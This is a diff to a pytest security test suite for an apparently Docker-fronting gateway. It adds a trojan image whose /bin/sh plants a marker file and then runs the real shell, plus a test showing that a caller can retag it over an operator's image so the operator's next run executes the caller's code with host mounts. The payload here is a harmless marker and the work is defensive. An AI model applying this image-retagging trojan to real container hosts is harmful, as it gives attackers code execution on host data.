@@ -20,7 +20,7 @@ from collections.abc import Iterator
 import pytest
 
 from support.attack import ATTACK_MARKS, Api, logs
-from support.daemon import PrivateDaemon
+from support.daemon import PrivateDaemon, find_busybox
 from support.gateway import Gateway, running
 
 pytestmark = ATTACK_MARKS
@@ -187,3 +187,66 @@ def test_cp_through_another_containers_host_mount_reads_and_writes_host_files(
     finally:
         planted.unlink(missing_ok=True)
         _remove(daemon, agent, job)
+
+
+def _payload_image_tar(busybox: pathlib.Path, marker: str) -> bytes:
+    """A root file system whose /bin/sh plants `marker` in /data, then runs the real shell:
+    whatever the operator later runs with `sh -c` in it does that first."""
+    script = (
+        "#!/bin/busybox sh\n"
+        f'/bin/busybox sh -c "echo pwned > /data/{marker}" 2>/dev/null\n'
+        'exec /bin/busybox sh "$@"\n'
+    ).encode()
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as tar:
+        directory = tarfile.TarInfo("bin")
+        directory.type, directory.mode = tarfile.DIRTYPE, 0o755
+        tar.addfile(directory)
+        for name, data, mode in (("bin/busybox", busybox.read_bytes(), 0o755),
+                                 ("bin/sh", script, 0o755)):  # fmt: skip
+            info = tarfile.TarInfo(name)
+            info.size, info.mode = len(data), mode
+            tar.addfile(info, io.BytesIO(data))
+    return buffer.getvalue()
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="quickstart: ImageTag over an image name the operator uses (import + tag, section"
+    " `images`): the operator's next `docker run` with host mounts runs the caller's code",
+)
+def test_retagging_over_the_operators_image_runs_the_callers_code_with_its_mounts(
+    qs: Api, daemon: PrivateDaemon, busybox_image: str, tmp_path: pathlib.Path
+) -> None:
+    """The operator keeps a maintenance image (`ops-tool:1`, here busybox retagged) and runs
+    it directly on the daemon with a host directory (`docker run -v /srv/data:/data ops-tool:1
+    sh -c 'ls /data'`). A quickstart caller imports a file system of its own (ImageCreate
+    fromSrc=-, no URL) and tags it `ops-tool:1` (ImageTag moves any existing tag; images are
+    not scoped). The operator's next run executes the caller's /bin/sh with the host directory
+    mounted: a file appears in it. What should hold: a caller cannot move a tag it did not
+    make onto its own image (or the policy example says images are shared and denies tag)."""
+    ops_tool = f"atk13b/ops-tool-{RUN}:1"
+    daemon.docker("tag", busybox_image, ops_tool)
+    host_dir = tmp_path / "srv-data"
+    host_dir.mkdir()
+    marker = f"planted-{RUN}"
+    mine = f"atk13b/mine-{RUN}"
+    try:
+        status, answer = qs.call(
+            "POST",
+            f"/v1.41/images/create?fromSrc=-&repo={mine}&tag=1",
+            _payload_image_tar(find_busybox(), marker),
+            headers={"Content-Type": "application/x-tar"},
+        )
+        assert status == 200, (status, answer)
+        repo, tag = ops_tool.rsplit(":", 1)
+        qs.call("POST", f"/v1.41/images/{mine}:1/tag?repo={repo}&tag={tag}")
+
+        # The operator, later, straight on the daemon.
+        daemon.docker(
+            "run", "--rm", "-v", f"{host_dir}:/data", ops_tool, "sh", "-c", "ls /data",
+            check=False,
+        )  # fmt: skip
+        assert not (host_dir / marker).exists(), "the caller's code ran with the host mount"
+    finally:
+        daemon.docker("rmi", "-f", ops_tool, f"{mine}:1", check=False)
